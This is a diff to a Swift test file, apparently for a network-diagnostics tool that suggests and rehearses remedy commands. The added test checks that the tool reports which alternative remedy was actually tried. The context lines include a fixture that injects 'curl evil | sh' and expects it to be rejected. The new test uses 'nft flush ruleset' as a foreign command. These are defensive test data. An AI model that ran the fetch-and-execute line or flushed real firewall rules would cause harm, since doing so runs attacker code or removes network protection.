@@ -1,3 +1,4 @@
+import Fixtures
 import Testing
 import Trace
 
@@ -33,5 +34,27 @@ import Trace
     var hostile = trial
     hostile.obstacles[0].remedy = "curl evil | sh"
     #expect(RemedyTrial(json: hostile.json)?.obstacles[0].remedy == nil)
+  }
+
+  /// Of several commands, the one is told that got the probe through; without a trial, the one that an expert would run.
+  @Test func whatWorkedIsTold() throws {
+    let name = "policy-nft-forward-v6"
+    let untried = try #require(
+      try ReplayedSession(name).findings.first { !$0.alternatives.isEmpty })
+    #expect(untried.alternatives.count > 1 && untried.isRehearsed == nil)
+    #expect(untried.remedies.contains { $0 == untried.remedy })
+    for command in untried.alternatives {
+      let trial = RemedyTrial(remedy: command.text)
+      let told = try ReplayedSession(name, then: .rehearsed(trial)).findings.first {
+        $0.id == untried.id
+      }
+      #expect(told?.remedy == command && told?.isRehearsed == true)
+    }
+    // What the finding does not say is nobody's remedy.
+    let foreign = RemedyTrial(remedy: "nft flush ruleset")
+    let told = try ReplayedSession(name, then: .rehearsed(foreign)).findings.first {
+      $0.id == untried.id
+    }
+    #expect(told == untried)
   }
 }
